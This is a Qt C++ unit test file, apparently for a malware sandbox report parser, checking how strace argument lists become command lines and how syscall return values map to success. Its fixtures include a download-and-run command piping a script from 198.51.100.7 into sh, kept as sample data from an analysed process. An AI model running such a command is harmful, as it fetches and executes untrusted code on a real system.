// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/report/reportparser.h"
#include "core/report/strace.h"
#include "support/fixture.h"
#include "support/testregistry.h"

#include <QtTest>

using namespace core;

class StraceTest : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void commandLines_data()
    {
        QTest::addColumn<QString>("argv");
        QTest::addColumn<QString>("line");
        const auto row = [](const char* argv, const char* line) { QTest::newRow(argv) << argv << line; };
        row("[\"/tmp/hunt.elf\"]", "/tmp/hunt.elf");
        row("[\"sh\", \"-c\", \"curl http://198.51.100.7/x.sh | sh\"]", "sh -c 'curl http://198.51.100.7/x.sh | sh'");
        row("[\"a\", \"say \\\"hi\\\"\", \"it's\"]", "a 'say \"hi\"' 'it'\\''s'");
        row("[\"a\", \"\"]", "a ''");
        row("[\"a\", \"\\x41\\102\\n\"]", "a 'AB\n'");
        row("[\"a\", \"long\"..., \"b\"]", "a long... b");
        row("[\"a\", \"cut", "a cut");
        row("0x7ffd3a2b", "");
        row("[]", "");
        row("", "");
    }

    void commandLines()
    {
        QFETCH(QString, argv);
        QFETCH(QString, line);
        QCOMPARE(QString::fromStdString(commandLineOfArgv(argv.toStdString())), line);
    }

    void statuses()
    {
        QCOMPARE(straceStatus("-1 ECONNREFUSED (Connection refused)"), std::optional(false));
        QCOMPARE(straceStatus("-1"), std::optional(false));
        QCOMPARE(straceStatus("3"), std::optional(true));
        QCOMPARE(straceStatus("0 (Timeout)"), std::optional(true));
        QCOMPARE(straceStatus("0x7f0012340000"), std::optional(true));
        QCOMPARE(straceStatus("?"), std::optional<bool>());
        QCOMPARE(straceStatus(""), std::optional<bool>());
    }

    void aReportOfLinux()
    {
        const ReportPtr report = ReportParser::parse(QByteArray::fromStdString(
            json::dump(test::jsonFixture(QStringLiteral("reports/linux-strace.json")))))
                                     .value();
        QCOMPARE(report->processes()[0].commandLine, std::string("/tmp/hunt.elf"));
        QCOMPARE(report->processes()[1].commandLine, std::string("sh -c 'curl http://198.51.100.7/x.sh | sh'"));
        QCOMPARE(report->processes()[2].commandLine, std::string());
        QCOMPARE(report->calls().status(1), std::optional(true));
        QCOMPARE(report->calls().status(2), std::optional(false));
    }

    void windowsSaysItselfWhetherACallSucceeded()
    {
        const ReportPtr report = ReportParser::parse(QByteArray(R"({"info":{},"behavior":{"processes":[{"process_id":1,
            "calls":[{"timestamp":"2026-01-31 10:04:12,031","return":"0xc0000034"},
            {"timestamp":"2026-01-31 10:04:12,031","return":"0xc0000034","status":false},
            {"timestamp":"2026-01-31 10:04:12,031","return":"-1 EPERM","status":true}]}]}})"))
                                     .value();
        QCOMPARE(report->calls().status(0), std::optional<bool>());
        QCOMPARE(report->calls().status(1), std::optional(false));
        QCOMPARE(report->calls().status(2), std::optional(true));
    }
};

REGISTER_TEST(StraceTest)
#include "stracetest.moc"
